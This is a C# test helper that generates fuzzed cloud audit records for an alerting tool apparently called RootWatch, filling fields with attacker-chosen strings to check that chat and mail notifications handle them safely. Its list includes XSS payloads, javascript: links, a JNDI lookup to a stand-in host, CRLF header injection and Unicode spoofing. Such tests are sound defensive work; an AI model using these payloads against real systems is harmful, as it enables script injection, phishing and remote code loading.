using System.Text.Json.Nodes;

namespace RootWatch.Tests;

/// <summary>A root record whose texts an attacker chose.</summary>
internal static class HostileRecord
{
    private static readonly JsonObject Plain = JsonNode.Parse(Sample.Record("root-create-access-key"))!.AsObject();

    private static readonly string[] Weapons =
    [
        "[click](https://evil.example)", "![x](https://evil.example/x.png)", "<at>everyone</at>", "<img src=x onerror=alert(1)>", "<a href='https://evil.example'>x</a>", "<script>alert(1)</script>",
        "https://evil.example/login", "HTTPS://EVIL.EXAMPLE", "http:\\\\evil.example", "www.evil.example", "evil.example", "mailto:a@evil.example", "javascript:alert(1)", "data:text/html,x", "//evil.example",
        "**bold**", "`code`", "| a | b |\n|---|---|", "# heading", "- [ ] task", "\u202Egnp.exe", "\u2066\u2067\u2069", "\u200B\u200C\u200D\uFEFF", "\0\a\b\x1B[31m", "\r\nBcc: a@evil.example", "\u2028\u2029", "&lt;b&gt;", "&#x3C;", "{{x}}", "${jndi:ldap://evil.example}",
        "]()[](", "\"}],\"body\":[", "\\u003cb\\u003e", "漢字漢字", "𝕏😀", "ｈｔｔｐｓ：／／ｅｖｉｌ．ｅｘａｍｐｌｅ", "evil。example", "xn--e1afmkfd.example", "@channel", "@here", "<https://evil.example|click>", "<!channel>", "\ud800", "a.b.c.d",
        "\u3164\u2800\uFFA0\u115F\u1160\u17B4", "evil\u034F.\uFE0Fe\U000E0020xample", "👨\u200D👩\u200D👧\u200D👦❤\uFE0F", "\u180E\u180B\U000E0100", "e\u0301\u0302\u0303", "𝕖𝕧𝕚𝕝.𝕖𝕩𝕒𝕞𝕡𝕝𝕖",
    ];

    private static readonly string[] Fields = ["eventName", "eventSource", "userAgent", "sourceIPAddress", "errorCode", "errorMessage", "eventID", "awsRegion", "requestParameters", "vpcEndpointId"];

    /// <summary>A record with weapons in some of its fields, and sometimes very long ones.</summary>
    public static string Json(Random random)
    {
        var record = Plain.DeepClone().AsObject();
        foreach (var field in Fields)
        {
            switch (random.Next(4))
            {
                case 0:
                    record[field] = Weapon(random);
                    break;
                case 1:
                    record[field] = $"{Weapon(random)}{(field == "eventName" ? "CreateUser" : "iam.amazonaws.com")}{Weapon(random)}{Weapon(random)}";
                    break;
                case 2 when random.Next(50) == 0:
                    record[field] = string.Concat(Enumerable.Repeat(Weapon(random), 2000));
                    break;
                default:
                    break;
            }
        }

        return record.ToJsonString();
    }

    /// <summary>What chat and mail programs read as more than words.</summary>
    public static string Weapon(Random random) => Weapons[random.Next(Weapons.Length)];
}
